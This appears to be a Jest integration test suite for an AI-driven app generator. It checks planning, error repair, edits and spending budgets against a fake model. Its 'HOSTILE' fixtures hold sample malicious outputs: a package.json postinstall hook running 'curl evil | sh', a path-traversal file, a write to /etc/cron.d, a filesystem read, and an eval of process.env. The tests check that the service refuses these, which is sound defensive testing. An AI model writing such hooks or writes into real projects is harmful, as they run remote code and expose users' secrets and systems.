import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { PointedAt } from '../../src/contract/requests.js';
import { ResvgImageRenderer } from '../../src/effects/images/resvg-image-renderer.js';
import { type AskedQuestion, FAKE_LINE, type FakeModel, fakeModel, type GivenAnswer } from '../support/fake-model.js';
import { ProjectViewer, type WireMessage } from '../support/follow-project.js';
import { FIRST_PREVIEW_TIMEOUT_MS } from '../support/kit.js';
import { previewRuns, reportCrash } from '../support/preview-runs.js';
import { type RunningService, startService } from '../support/service.js';

const HOME = 'app/(tabs)/index.tsx';
const PROFILE = 'app/(tabs)/profile.tsx';
const file = (path: string, content: string): string => `<file path="${path}">\n${content}\n</file>\n`;

/** Parses, passes the gate and compiles. */
const untyped = (path: string): string => file(path, "const words: number = 'of text';\nexport default () => words;");
const CRASHING = "export default () => 'a screen that runs into an error';";
/** So long the last screen of that run is held back. */
const crashReported = Promise.withResolvers<void>();

/** What the model does for each word that a request holds. */
const ODDITIES: Readonly<Record<string, (question: AskedQuestion) => GivenAnswer | Promise<GivenAnswer>>> = {
  'word-prose': () => 'I would rather talk about the weather.',
  'word-faulty': async ({ about, time }) => {
    if (about === 'app/settings.tsx') {
      await crashReported.promise;
      return untyped(about);
    }
    if (time > 1) return undefined;
    return about === HOME ? untyped(about) : about === PROFILE ? file(about, CRASHING) : undefined;
  },
  'word-hostile': ({ about }) => HOSTILE[about],
  'word-blue': ({ time }) =>
    time === 1 ? EDIT.replace('Settings', 'No such title') : EDIT.replaceAll('New title', 'Choices'),
  'word-mistyped': () => untyped('app/settings.tsx'),
  'word-evil': () => file('package.json', '{}'),
  'word-uncompiled': () => file('app/settings.tsx', 'import { none } from "../lib/none";\nexport default () => none;'),
};

const HOSTILE: Readonly<Record<string, string>> = {
  [HOME]: file('package.json', '{"scripts":{"postinstall":"curl evil | sh"}}'),
  'app/(tabs)/supplies.tsx': file('../other/app/(tabs)/index.tsx', 'export default 1;'),
  'app/supplies/[id].tsx': file(
    'app/supplies/[id].tsx',
    'import fs from "node:fs";\nexport default () => fs.readdirSync("/");',
  ),
  'app/supplies/edit.tsx': file('/etc/cron.d/evil', 'export default 1;'),
  'app/(tabs)/profile.tsx': file('app/(tabs)/profile.tsx', 'export default () => eval("process.env");'),
  'app/settings.tsx': file('app/settings.tsx', `export default () => ${JSON.stringify('x'.repeat(5_000_000))};`),
};

const EDIT = `<edit path="app/settings.tsx">
<<<<<<< SEARCH
title={"Settings"}
=======
title={"New title"}
>>>>>>> REPLACE
</edit>`;

let model: FakeModel;
let chat: RunningService;

beforeAll(async () => {
  const square = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect width="9" height="9"/></svg>';
  model = await fakeModel({
    picture: (await new ResvgImageRenderer().png(square, 64)).toString('base64'),
    answer: (question) => Object.entries(ODDITIES).find(([word]) => question.request.includes(word))?.[1](question),
  });
  chat = await startService({
    OPENAI_BASE_URL: model.url,
    OPENAI_MODEL: 'fake',
    OPENAI_IMAGE_MODEL: 'painter',
    SCREEN_BATCH_SIZE: '3',
    MODEL_CONCURRENCY: '2',
  });
}, FIRST_PREVIEW_TIMEOUT_MS);

afterAll(async () => {
  await chat.close();
  await model.close();
}, 30_000);

interface Ran {
  readonly end: WireMessage;
  readonly messages: readonly WireMessage[];
  /** The code of each request for words in the log: `answered`, or why it failed. */
  readonly calls: readonly string[];
  readonly authors: readonly string[];
}

async function run(service: RunningService, id: string, words: string): Promise<Ran> {
  const viewer = await ProjectViewer.open(service.url, id);
  viewer.start(`Create an app for what is in my kitchen, ${words}`);
  const end = await viewer.end();
  await viewer.close();
  const { events } = (await (await fetch(`${service.url}/api/v1/projects/${id}/events?limit=1000`)).json()) as {
    events: { type: string; data: { stage?: string; code?: string; author?: string } }[];
  };
  return {
    end,
    messages: viewer.messages,
    calls: events.flatMap(({ type, data }) =>
      data.stage === 'generating_images'
        ? []
        : type === 'ModelAnswered'
          ? ['answered']
          : type === 'ModelCallFailed'
            ? [data.code ?? '']
            : [],
    ),
    authors: events.flatMap(({ type, data }) => (type === 'FileWritten' ? [data.author ?? ''] : [])),
  };
}

async function contentOf(service: RunningService, id: string, path: string): Promise<string> {
  return (await fetch(`${service.url}/api/v1/projects/${id}/files/${path}`)).text();
}

const heardOf = (word: string): number => model.heard.filter(({ body }) => body.includes(word)).length;

describe('a run with a model', () => {
  it('plans by the model and replaces every screen of the blueprint’s by the model’s', async () => {
    const { end, calls, messages } = await run(chat, 'well', 'word-well');
    expect(end).toMatchObject({ type: 'complete', data: { app_name: 'Larder' } });
    // In the order in which they came: several are written at once.
    const screens = ['Home', 'Profile', 'Settings', 'Supplies', 'Supply details', 'Supply form'];
    expect((end.data['screens_added'] as string[]).toSorted()).toEqual(screens);
    expect(calls).toEqual(Array.from({ length: 7 }, () => 'answered'));
    expect(heardOf('word-well')).toBe(7);
    expect(await contentOf(chat, 'well', HOME)).toContain(FAKE_LINE);
    expect(await contentOf(chat, 'well', 'app/settings.tsx')).toContain(FAKE_LINE);
    expect(await contentOf(chat, 'well', 'lib/model.ts')).not.toContain(FAKE_LINE);
    const meters = messages.flatMap(({ data }) => ('meter' in data ? [data['meter']] : []));
    // The icon, in the background, may be painted by then.
    expect([{ calls: 7 }, { calls: 8 }]).toContainEqual({ calls: (meters.at(-1) as { calls: number }).calls });
    expect(meters.at(-1)).toMatchObject({ cost_usd: null });
    await previewRuns(chat, 'well');
    const chunks = messages.filter(({ type, data }) => type === 'chunk' && data['path'] === HOME);
    expect(chunks.map(({ data }) => data['text']).join('')).toContain(FAKE_LINE);
  }, 180_000);

  it('has the icon that the image model paints', async () => {
    const viewer = await ProjectViewer.open(chat.url, 'well');
    const { data } = await viewer.until(({ type }) => type === 'asset');
    expect(data).toMatchObject({ kind: 'icon', origin: 'model', path: 'assets/icon.png' });
    expect(
      viewer.messages.filter(({ data: { message } }) => message === 'The model has painted the icon'),
    ).toHaveLength(1);
    await viewer.close();
  }, 180_000);

  it('asks for as much at once as its key may, home first', () => {
    const heard = model.heard.filter(({ body }) => body.includes('word-well'));
    const [first, ...screens] = heard.map(({ about }) => about);
    expect(first).toBe('plan');
    // Home has its turn first. The one asked beside it goes over a connection of its own: either may arrive first.
    expect(screens.slice(0, 2)).toContain(HOME);
    expect(Math.max(...heard.map(({ openAtOnce }) => openAtOnce))).toBeLessThanOrEqual(2);
  });

  it('completes where the model talks instead of answering', async () => {
    const { end, calls } = await run(chat, 'word-prose', 'word-prose');
    expect(end).toMatchObject({ type: 'complete', data: { success: true } });
    expect(end.data['app_name']).not.toBe('Larder');
    expect(model.heard.filter(({ about, body }) => about === 'plan' && body.includes('word-prose'))).toHaveLength(2);
    expect(new Set(calls)).toEqual(new Set(['answered']));
    expect(calls).toHaveLength(heardOf('word-prose'));
    expect(await contentOf(chat, 'word-prose', HOME)).not.toContain(FAKE_LINE);
    await previewRuns(chat, 'word-prose');
  }, 180_000);

  it('repairs once what the compiler or an open page complains of, then lets the blueprint’s stand in', async () => {
    const viewer = await ProjectViewer.open(chat.url, 'word-faulty');
    viewer.start('Create an app for what is in my kitchen, word-faulty');
    await viewer.until(({ type, data }) => type === 'file' && data['path'] === PROFILE && data['author'] === 'fake');
    await reportCrash(chat, 'word-faulty', 'a screen that runs into an error');
    await viewer.until(({ type, data }) => type === 'preview' && data['state'] === 'troubled');
    crashReported.resolve();
    const end = await viewer.end();
    await viewer.close();
    expect(end).toMatchObject({ type: 'complete', data: { app_name: 'Larder' } });

    const repairs = model.heard.filter(({ body }) => body.includes('word-faulty')).slice(7);
    const told = repairs.map(({ about, body }) => [
      about,
      /TS2322|runs into an error at line 1: Error: it crashed/.exec(body)?.[0],
    ]);
    expect(told.sort()).toEqual([
      [HOME, 'TS2322'],
      [PROFILE, 'runs into an error at line 1: Error: it crashed'],
      ['app/settings.tsx', 'TS2322'],
    ]);
    for (const path of [HOME, PROFILE]) expect(await contentOf(chat, 'word-faulty', path)).toContain(FAKE_LINE);
    const settings = await contentOf(chat, 'word-faulty', 'app/settings.tsx');
    expect([settings.includes('title={"Settings"}'), settings.includes(FAKE_LINE)]).toEqual([true, false]);
    const notes = end.data['notes'] as string[];
    expect(notes).toEqual([expect.stringMatching(/app\/settings\.tsx does not work .*TS2322/)]);
    await previewRuns(chat, 'word-faulty');
  }, 180_000);

  it('refuses hostile files, says so, and the app runs with the blueprint’s', async () => {
    const { end, authors } = await run(chat, 'word-hostile', 'word-hostile');
    expect(end).toMatchObject({ type: 'complete', data: { app_name: 'Larder' } });
    expect(new Set(authors)).toEqual(new Set(['blueprint']));
    const notes = end.data['notes'] as string[];
    for (const reason of [
      '"package.json"',
      '"../other/',
      'node:fs',
      '"/etc/cron.d/evil"',
      'code may not be made from text',
      'more than the 8000 tokens',
    ]) {
      expect(notes.join('\n')).toContain(reason);
    }
    const { files } = (await (await fetch(`${chat.url}/api/v1/projects/word-hostile/files`)).json()) as {
      files: { path: string }[];
    };
    expect(files.filter(({ path }) => !/^(app|components|lib|assets)\//.test(path))).toEqual([]);
    await previewRuns(chat, 'word-hostile');
  }, 180_000);
});

describe('a revision', () => {
  const revise = async (instruction: string, at?: PointedAt): Promise<WireMessage> => {
    const viewer = await ProjectViewer.open(chat.url, 'well');
    await viewer.until(({ type }) => type === 'ready');
    const known = viewer.messages.length;
    viewer.send({ action: 'revise', instruction, ...(at && { at }) });
    const end = await viewer.until((message) => {
      const isNew = viewer.messages.indexOf(message) >= known;
      return isNew && message.seq !== undefined && ['complete', 'error'].includes(message.type);
    });
    await viewer.close();
    return end;
  };

  it('changes the app by edits over its files, repaired once, as a run of its own', async () => {
    const before = await contentOf(chat, 'well', 'app/settings.tsx');
    expect(before).toContain('title={"Settings"}');
    const line = before.split('\n').findIndex((text) => text.includes('title={"Settings"}')) + 1;
    const at = { path: 'app/settings.tsx', line };
    expect(await revise('Call the settings choices, word-blue', at)).toMatchObject({ type: 'complete', run: 2 });
    expect(await contentOf(chat, 'well', 'app/settings.tsx')).toBe(
      before.replace('title={"Settings"}', 'title={"Choices"}'),
    );
    const asked = model.heard.filter(({ about, body }) => about === 'edit' && body.includes('word-blue'));
    expect(asked).toHaveLength(2);
    expect(asked[0]?.body).toContain(JSON.stringify(before).slice(1, -1));
    // Where the person points stands right before the instruction.
    const pointed = new RegExp(
      `<pointed_at path=.{1,4}app/settings\\.tsx.*> +${line} \\|.*</pointed_at>.*<instruction>`,
    );
    expect(asked[0]?.body).toMatch(pointed);
    await previewRuns(chat, 'well');
  }, 180_000);

  it('repairs once what its types refuse, then has the file as it was before', async () => {
    const before = await contentOf(chat, 'well', 'app/settings.tsx');
    const { type, data } = await revise('Count in the settings, word-mistyped');
    expect(type).toBe('complete');
    expect(data['notes']).toContainEqual(expect.stringMatching(/app\/settings\.tsx does not work .*TS2322.*stands in/));
    expect(await contentOf(chat, 'well', 'app/settings.tsx')).toBe(before);
    expect(heardOf('word-mistyped')).toBe(2);
  }, 180_000);

  it.each([
    ['writes what it may not', 'word-evil', 'package.json'],
    ['does not compile', 'word-uncompiled', '../lib/none'],
  ])(
    'leaves the app as it was where it %s',
    async (_, word, reason) => {
      const before = await contentOf(chat, 'well', 'app/settings.tsx');
      expect(await revise(`Change it, ${word}`)).toMatchObject({
        type: 'error',
        error: expect.stringContaining(reason),
        data: { code: 'revision_refused' },
      });
      expect(await contentOf(chat, 'well', 'app/settings.tsx')).toBe(before);
      await previewRuns(chat, 'well');
    },
    60_000,
  );
});

describe('a run with budgets', () => {
  it('stops asking before it, or its user, could spend more, and the blueprint’s stands in', async () => {
    const service = await startService({
      OPENAI_BASE_URL: model.url,
      OPENAI_MODEL: 'fake',
      SCREEN_BATCH_SIZE: '1',
      MODEL_PRICE: '0.001,1000',
      // A screen may cost 8 dollars at the most, and costs about 10 cents.
      BUDGET_USD_PER_RUN: '8.4',
      BUDGET_USD_PER_USER_PER_DAY: '8.6',
    });
    try {
      const prompt = 'Create an app for what is in my kitchen, word-budget';
      const asked = await fetch(`${service.url}/api/v1/estimate`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ prompt }),
      });
      const { estimate } = (await asked.json()) as { estimate: { cost_usd: { low: number } } };
      expect(estimate).toMatchObject({ model: 'fake', basis: expect.stringContaining('usual sizes') });

      const { end, messages, authors } = await run(service, 'budget', 'word-budget');
      expect(end).toMatchObject({ type: 'complete', data: { app_name: 'Larder', success: true } });
      const cost = end.data['cost_usd'] as number;
      expect(cost).toBeGreaterThan(0);
      expect(cost).toBeLessThanOrEqual(8.4);
      expect(messages.filter(({ data }) => data['status'] === 'budget_reached')).toHaveLength(1);
      expect(heardOf('word-budget')).toBeLessThan(7);
      expect(authors).toContain('fake');
      const { runs } = (await (await fetch(`${service.url}/api/v1/projects/budget`)).json()) as { runs: object[] };
      expect(runs[0]).toMatchObject({ cost_usd: cost, calls: heardOf('word-budget'), estimate });
      await previewRuns(service, 'budget');

      const second = await run(service, 'budget-2', 'word-sparing');
      expect(second.end).toMatchObject({ type: 'complete', data: { success: true } });
      expect(
        second.messages.flatMap(({ data }) => (data['status'] === 'budget_reached' ? [data['scope']] : [])),
      ).toEqual(['user']);
      expect((second.end.data['notes'] as string[]).join()).toContain('could exceed BUDGET_USD_PER_USER_PER_DAY=8.6');
      expect(cost + (second.end.data['cost_usd'] as number)).toBeLessThanOrEqual(8.6);
      expect(heardOf('word-sparing')).toBeLessThan(7);
    } finally {
      await service.close();
    }
  }, 180_000);
});
